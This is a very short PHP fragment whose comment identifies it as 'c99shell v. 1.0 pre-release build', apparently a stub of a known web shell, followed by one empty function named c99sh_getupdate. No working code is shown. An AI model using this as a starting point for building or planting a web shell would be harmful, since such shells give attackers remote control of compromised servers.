<?php
// c99shell v. 1.0 pre-release build
function c99sh_getupdate() {}
